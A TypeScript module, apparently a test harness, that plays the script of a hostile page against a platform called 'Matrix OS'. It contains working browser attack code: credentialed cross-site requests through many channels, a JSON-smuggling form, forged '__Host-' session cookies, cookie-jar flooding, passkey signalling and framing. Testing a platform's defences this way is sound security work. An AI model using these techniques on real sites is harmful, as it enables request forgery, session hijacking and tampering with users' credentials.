/**
 * What the script of a hostile page does. Each function runs in the page, so it may use nothing around it, and tells what
 * came of it in a word.
 */

/** Asks for a passkey, makes one, and tells the browser that all are gone. Each: `done`, or the error's name. */
export async function attackPasskeys(rpId: string): Promise<Record<string, string>> {
  const challenge = new Uint8Array(32)
  // Where there is no passkey, a browser may ask on for one.
  const signal = AbortSignal.timeout(5000)
  const ended = (work: () => Promise<unknown>) =>
    work().then(
      () => 'done',
      (error: Error) => error.name,
    )
  const user = { id: new Uint8Array(64), name: 'vera', displayName: 'vera' }
  const pubKeyCredParams = [{ type: 'public-key' as const, alg: -7 }]
  const authenticatorSelection = { residentKey: 'required', userVerification: 'required' } as const
  const rp = { id: rpId, name: 'Matrix OS' }
  const noticed = { rpId, userId: 'AAAA', allAcceptedCredentialIds: [] }
  return {
    get: await ended(() =>
      navigator.credentials.get({ publicKey: { challenge, rpId, timeout: 2000 }, signal }),
    ),
    create: await ended(() =>
      navigator.credentials.create({
        publicKey: { challenge, rp, user, pubKeyCredParams, authenticatorSelection },
      }),
    ),
    signal: await ended(() => PublicKeyCredential.signalAllAcceptedCredentials(noticed)),
  }
}

/** Calls an address with the visitor's cookies in every way that a script knows; tells of each answer that it could read. */
export async function callWithCookies(url: string): Promise<string[]> {
  const json = { 'content-type': 'application/json' }
  const body = '{}'
  const ways: Record<string, RequestInit> = {
    read: { headers: { 'x-mos': '1' } },
    'read plainly': {},
    write: { method: 'POST', headers: { ...json, 'x-mos': '1' }, body },
    'write without a preflight': { method: 'POST', body },
    'write JSON unseen': { method: 'POST', body: new Blob([body], { type: 'text/plain' }), mode: 'no-cors' },
    'write a form unseen': { method: 'POST', body: new URLSearchParams({ a: '1' }), mode: 'no-cors' },
    'write parts unseen': { method: 'POST', body: new FormData(), mode: 'no-cors' },
    'read unseen': { mode: 'no-cors' },
  }
  const read: string[] = []
  for (const [way, init] of Object.entries(ways)) {
    const answer = await fetch(url, { ...init, credentials: 'include' }).catch(() => null)
    if (answer && answer.type !== 'opaque') read.push(`${way}: ${answer.status}`)
  }
  navigator.sendBeacon(url, new Blob([body], { type: 'application/json' }))
  navigator.sendBeacon(url, body)
  for (const tag of ['img', 'script', 'iframe'] as const) {
    const element = document.createElement(tag)
    const settled = new Promise((resolve) => {
      element.onload = resolve
      element.onerror = resolve
    })
    element.src = url
    document.body.append(element)
    await settled
  }
  return read
}

/** `open`, or how it ended. */
export const openStream = (url: string): Promise<string> =>
  new Promise((resolve) => {
    const stream = new EventSource(url, { withCredentials: true })
    stream.onopen = () => resolve('open')
    stream.onerror = () => resolve('refused')
  })

/** `open`, or how it ended. */
export const openWebSocket = (url: string): Promise<string> =>
  new Promise((resolve) => {
    const socket = new WebSocket(url)
    socket.onopen = () => resolve('open')
    socket.onclose = () => resolve('refused')
  })

/** Sends a form there, and leaves the page. */
export function sendForm({ url, enctype }: { url: string; enctype: string }): void {
  const form = document.createElement('form')
  Object.assign(form, { method: 'POST', action: url, enctype })
  const field = document.createElement('input')
  // As text, the body is JSON.
  Object.assign(field, { name: '{"a":"', value: '"}' })
  form.append(field)
  document.body.append(form)
  form.submit()
}

/** Cookies that a script of this page can see, and whether it could put one of the platform's in its place. */
export async function takeCookies(domain: string): Promise<{ seen: string[]; planted: string[] }> {
  const planted: string[] = []
  for (const name of ['__Host-mos_sid', '__Host-mos_rt', '__Host-mos_app']) {
    const cookie = { name, value: 'forged', path: '/' }
    await cookieStore.set({ ...cookie, domain }).then(
      () => planted.push(`${name} for the domain`),
      () => undefined,
    )
    // biome-ignore lint/suspicious/noDocumentCookie: this is what an attacker does
    document.cookie = `${name}=forged; Path=/; Secure; Domain=${domain}`
  }
  const seen = (await cookieStore.getAll()).map(({ name = '' }) => name)
  return { seen: seen.filter((name) => name.startsWith('__Host-mos')), planted }
}

/** Sets cookies for a whole domain; resolves with how many the browser kept. */
export async function floodCookies({ count, domain }: { count: number; domain: string }): Promise<number> {
  for (let at = 0; at < count; at++) {
    const cookie = { name: `${domain}-${at}`, value: 'x', domain, expires: Date.now() + 3_600_000 }
    await cookieStore.set(cookie).catch(() => undefined)
  }
  return (await cookieStore.getAll()).filter(({ name }) => name?.startsWith(`${domain}-`)).length
}

/** Shows an address in a frame; resolves when the frame has settled. */
export const frame = (url: string): Promise<void> =>
  new Promise((resolve) => {
    const element = document.createElement('iframe')
    element.onload = () => resolve()
    element.src = url
    document.body.append(element)
  })
